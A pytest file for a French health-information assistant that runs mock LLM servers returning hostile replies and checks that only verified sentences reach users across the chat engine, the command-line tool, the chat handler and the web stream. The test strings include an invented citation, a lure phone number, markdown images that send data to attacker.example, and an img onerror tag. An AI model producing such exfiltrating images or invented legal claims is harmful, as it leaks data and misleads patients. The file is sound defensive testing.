"""Issue 16, items 14 and 15: against real HTTP servers on 127.0.0.1, nothing a hostile
LLM writes reaches the user before it passed the check (chat engine, ``assistant ask
--llm`` in text and JSON, the chat's handler, the web app's stream), and a server that
never answers costs the turn no more than ``ASSISTANT_LLM_TIMEOUT``."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from copy import deepcopy
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import pytest
from gradio_client import Client
from pytest_httpserver import HTTPServer

from assistant import Assistant
from assistant.answer.answer_check import IncrementalCheck, check
from assistant.answer.generation import Delta, Progress
from assistant.answer.llm import build_chat_model
from assistant.chat import ChatEngine, TurnResult, Understood
from assistant.cli import main
from assistant.feedback import FeedbackStore
from assistant.search.lexical import FrenchAnalyzer
from assistant.search.retrieval import Passage
from tests import llm_servers
from tests.live import free_port, running
from ui.chat_handlers import ChatHandlers, new_session
from ui.server import create_app

SECRET = "Ai-je le droit de partager des informations sur un patient avec le réseau ?"
SUPPORTED = (
    "Sauf opposition du patient, des professionnels de santé peuvent échanger des "
    "informations relatives à une même personne prise en charge"
)
# What a hostile server slips between sound sentences: a source that was not given, a
# phone number (with a given source, so that only the number check catches it), an image
# whose address would carry data out. Words of the image are sent one by one, so that a
# draft shown as it comes holds "![" long before the image is whole.
INVENTED = "[7]"
PHONE = "06 12 34 56 78"
IMAGE = "!["
BAD = (INVENTED, PHONE, "06 12", IMAGE, "attacker.example")


def hostile_reply(body: dict[str, object]) -> str:
    prompt = str(body["messages"][-1]["content"])  # type: ignore[index]
    blocks = prompt.split("<source n=")[1:]
    n = next(
        i for i, b in enumerate(blocks, 1) if "sauf opposition du patient" in " ".join(b.split())
    )
    return (
        f"{SUPPORTED} [{n}]. Le secret est levé dans tous les cas {INVENTED}. "
        f"Appelez le {PHONE} pour obtenir le dossier du patient [{n}]. "
        f"![suivi du patient](http://attacker.example/p.png?d=secret) "
        f"Ces échanges visent la continuité des soins [{n}]."
    )


def llm_settings(assistant: Assistant, url: str, **update: object) -> Assistant:
    settings = assistant.settings.model_copy(
        update={
            "llm": "openai",
            "llm_model": "modele-test",
            "llm_base_url": url,
            "llm_timeout": 10.0,
            **update,
        }
    )
    return replace(assistant, settings=settings, chat_model=build_chat_model(settings))


@pytest.fixture
def hostile(httpserver: HTTPServer) -> str:
    llm_servers.serve(httpserver, "openai", llm_servers.openai_handler(hostile_reply, []))
    return llm_servers.base_url(httpserver, "openai")


def assert_clean(shown: str) -> None:
    assert [bad for bad in BAD if bad in shown] == [], shown


# --- 14: nothing unchecked is shown ------------------------------------------------------
def test_engine_streams_only_checked_sentences(seeded: Assistant, hostile: str) -> None:
    a = llm_settings(seeded, hostile)
    events = list(ChatEngine(a, llm=a.llm_answerer()).stream(SECRET))
    for event in events:
        assert_clean(str(getattr(event, "text", "")))
    result = events[-1]
    assert isinstance(result, TurnResult) and result.status == "repaired"
    assert_clean(result.answer.answer + result.notice)
    assert isinstance(events[0], Understood) and isinstance(events[1], Progress)
    assert events[1].text == "Rédaction de la réponse…"
    deltas = [e.text for e in events if isinstance(e, Delta)]
    # Still streamed: the first sound sentence is shown as soon as it is checked, before
    # the end; each step only adds to the last, and the answer begins with what was shown.
    assert deltas and deltas[0] == f"{SUPPORTED} [1]."
    assert all(b.startswith(a) for a, b in pairwise(deltas))
    assert result.answer.answer.startswith(deltas[-1])
    assert (
        result.answer.answer == f"{SUPPORTED} [1]. Ces échanges visent la continuité des soins [1]."
    )
    assert "2 phrases" in result.notice


@pytest.mark.parametrize(
    "reply",
    [
        # Markers after the stop, an image whose text holds a whole cited sentence, a link
        # and a tag across what looks like sentence ends, an URL ending a sentence.
        f"{SUPPORTED}. [1] ![{SUPPORTED} [1]. Vu](http://attacker.example/x?a. B) "
        f"Voir [le site. Ici](https://attacker.example/y. Z) <img src=x onerror='a. B'> "
        f"{SUPPORTED} [1] http://attacker.example/z. Appelez le {PHONE} [1]. "
        f"Le secret est levé dans tous les cas {INVENTED}. {SUPPORTED} [1].",
        # Sentences opening with a tag or an image still end the one before.
        f"{SUPPORTED} [1]. <b>Gras</b> [1]. {SUPPORTED} [1]. ![suivi du patient]"
        f"(http://attacker.example/p.png) Appelez le {PHONE} [1]. {SUPPORTED} [1].",
    ],
    ids=["tangled", "markup-first"],
)
def test_checked_text_is_the_same_fed_char_by_char(reply: str) -> None:
    """The worst stream (one character at a time): whatever is released was checked, only
    grows, and the result is the check of the whole reply."""
    passage = Passage("c1", f"{SUPPORTED}.", {"doc_id": "d"}, 1.0)
    analyzer = FrenchAnalyzer()
    checking = IncrementalCheck([passage], analyzer)
    released: list[str] = []
    for i in range(1, len(reply) + 1):
        text = checking.feed(reply[:i])
        if text is not None:
            assert_clean(text)
            assert not released or text.startswith(released[-1])
            released.append(text)
    final = checking.finish(reply)
    assert released and final.text.startswith(released[-1])
    assert_clean(final.text)
    assert final.text == check(reply, [passage], analyzer).text


@pytest.fixture
def cli_env(indexed: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch, hostile: str) -> None:
    corpus, index = indexed
    monkeypatch.setenv("ASSISTANT_CORPUS_DIR", str(corpus))
    monkeypatch.setenv("ASSISTANT_INDEX_DIR", str(index))
    monkeypatch.setenv("ASSISTANT_LLM_MODEL", "modele-test")
    monkeypatch.setenv("ASSISTANT_LLM_BASE_URL", hostile)


def test_cli_text_and_json_never_print_the_draft(
    cli_env: None, capsys: pytest.CaptureFixture[str]
) -> None:
    # A terminal keeps every byte written to it: the whole output is what the user saw.
    assert main(["ask", "--llm", "openai", SECRET]) == 0
    out, err = capsys.readouterr()
    assert_clean(out + err)
    answer, rest = out.split("\n", 1)
    assert answer == f"{SUPPORTED} [1]. Ces échanges visent la continuité des soins [1]."
    assert rest.startswith("\nℹ Réponse corrigée : 2 phrases") and "Sources :" in rest
    assert out.count(SUPPORTED) == 1  # streamed once, not printed again below

    assert main(["ask", "--llm", "openai", SECRET, "--format", "json"]) == 0
    out, err = capsys.readouterr()
    assert_clean(out + err)
    assert json.loads(out)["generation"]["status"] == "repaired"


def ui_steps(handlers: ChatHandlers, message: str) -> list[str]:
    return [
        str(deepcopy(chat)[-1]["content"])
        for chat, _, _, _ in handlers.respond(message, [], new_session())
    ]


def test_chat_handler_shows_progress_then_checked_sentences(
    seeded: Assistant, hostile: str, tmp_path: Path
) -> None:
    a = llm_settings(seeded, hostile)
    h = ChatHandlers(ChatEngine(a, llm=a.llm_answerer()), FeedbackStore(tmp_path / "f.sqlite3"))
    steps = ui_steps(h, SECRET)
    for content in steps:
        assert_clean(content)
    assert any("Rédaction de la réponse…" in s for s in steps)
    partial = [s for s in steps if s.endswith("▌")]
    assert partial and "Sauf opposition du patient" in partial[0]
    assert "Ces échanges visent la continuité des soins" in steps[-1] and "▌" not in steps[-1]


@pytest.fixture
def live_hostile(seeded: Assistant, hostile: str, tmp_path: Path) -> Iterator[str]:
    port = free_port()
    a = llm_settings(seeded, hostile, port=port, feedback_db=tmp_path / "f.sqlite3")
    with running(create_app(a), port) as url:
        yield url


def test_web_stream_never_carries_the_draft(live_hostile: str) -> None:
    client = Client(live_hostile + "/", verbose=False)
    job = client.submit(SECRET, api_name="/ask")
    answer, _ = job.result(timeout=120)
    steps = job.outputs()
    assert len(steps) >= 2
    for step_answer, _ in steps:
        assert_clean(str(step_answer))
    assert "Ces échanges visent la continuité des soins" in answer


# --- 15: one deadline for the whole turn -------------------------------------------------
FOLLOW_UP = "Et avec un pharmacien ?"
HISTORY = [
    {"role": "user", "content": SECRET},
    {"role": "assistant", "content": "Oui, sauf opposition du patient [1]."},
]


@pytest.mark.parametrize("stream", [True, False], ids=["streamed", "not-streamed"])
def test_silent_server_costs_the_turn_no_more_than_the_timeout(
    seeded: Assistant, stream: bool
) -> None:
    # Long enough that the old overrun (a third of the budget for the condensation, on
    # top of the answer's whole budget counted from after the search) exceeds the margin.
    timeout = 6.0
    with llm_servers.SilentServer() as server:
        a = llm_settings(
            seeded, server.url + "/v1", llm_timeout=timeout, llm_retries=2, llm_stream=stream
        )
        engine = ChatEngine(a, llm=a.llm_answerer())
        started = time.monotonic()
        events = list(engine.stream(FOLLOW_UP, HISTORY))
        elapsed = time.monotonic() - started
        connections = server.connections
    result = events[-1]
    assert isinstance(result, TurnResult)
    # A behaviour bound, not a benchmark: condensation, the answer and any retry all fit
    # in the one budget (before, condensation had a third of it on top).
    assert elapsed < timeout + 1.5, elapsed
    assert connections == 2  # the condensation, then one answer: no retry without time
    assert result.understood.condensed_by == "rules"
    assert result.status == "unavailable"
    assert result.notice.startswith("Le générateur de réponses est indisponible")
    assert result.answer.answer == ChatEngine(seeded).ask(FOLLOW_UP, HISTORY).answer.answer
